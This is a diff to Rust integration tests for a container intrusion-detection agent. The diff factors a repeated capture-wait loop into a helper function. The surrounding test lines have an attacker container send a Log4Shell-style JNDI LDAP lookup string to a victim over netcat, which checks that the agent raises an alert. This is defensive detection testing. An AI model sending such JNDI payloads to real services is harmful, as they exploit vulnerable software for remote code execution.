@@ -69,6 +69,18 @@ fn logs(name: &str, stderr: bool) -> String {
     String::from_utf8_lossy(if stderr { &out.stderr } else { &out.stdout }).into_owned()
 }
 
+/// Waits until the agent in container `agent` has attached a capture to
+/// each of `containers` (discovered them, entered their namespaces).
+async fn wait_captured(agent: &str, containers: &[&TestContainer]) {
+    for c in containers {
+        eventually(&format!("capture of {}", c.name), Duration::from_secs(60), || {
+            let attached = format!("\"container\":\"{}\"", c.id);
+            logs(agent, true).lines().any(|l| l.contains("capture attached") && l.contains(&attached)).then_some(())
+        })
+        .await;
+    }
+}
+
 /// Sends `command` from `attacker` to a victim and waits for alert `sid`
 /// on the agent container's stdout, naming the attacker.
 async fn alert_in_docker_logs(agent: &str, attacker: &TestContainer, sid: u64, command: &str) -> serde_json::Value {
@@ -120,13 +132,7 @@ async fn the_image_discovers_captures_collects_listens_and_detects() {
     let script = format!("echo hello-from-the-image-test; httpd -p 80; {}", pinger("0.2"));
     let c = TestContainer::run_cmd("image-target", &[], &["sh", "-c", &script]);
     let attacker = TestContainer::run("image-attacker", &[]);
-    for id in [&c.id, &attacker.id] {
-        eventually("discovery and capture of the test containers", Duration::from_secs(60), || {
-            let attached = format!("\"container\":\"{id}\"");
-            logs(&name, true).lines().any(|l| l.contains("capture attached") && l.contains(&attached)).then_some(())
-        })
-        .await;
-    }
+    wait_captured(&name, &[&c, &attacker]).await;
     let status = Command::new("logger")
         .args(["-n", "127.0.0.1", "-P", &syslog.to_string(), "--tcp", "syslog-into-the-image"])
         .status()
@@ -188,13 +194,7 @@ async fn the_image_adds_a_mounted_rules_directory_to_the_builtin_rules() {
     let name = agent.0.clone();
     let victim = TestContainer::run_cmd("image-rules-victim", &[], attacks::VICTIM);
     let attacker = TestContainer::run("image-rules-attacker", &[]);
-    for id in [&victim.id, &attacker.id] {
-        eventually("capture of the test containers", Duration::from_secs(60), || {
-            let attached = format!("\"container\":\"{id}\"");
-            logs(&name, true).lines().any(|l| l.contains("capture attached") && l.contains(&attached)).then_some(())
-        })
-        .await;
-    }
+    wait_captured(&name, &[&victim, &attacker]).await;
     let site = format!("echo PORTWARDEN-SITE-RULE | timeout 3 nc {} 4444", victim.ip());
     alert_in_docker_logs(&name, &attacker, 9_200_001, &site).await;
     let jndi = format!("printf '${{jndi:ldap://x.portwarden.test/a}}' | timeout 3 nc {} 4444", victim.ip());
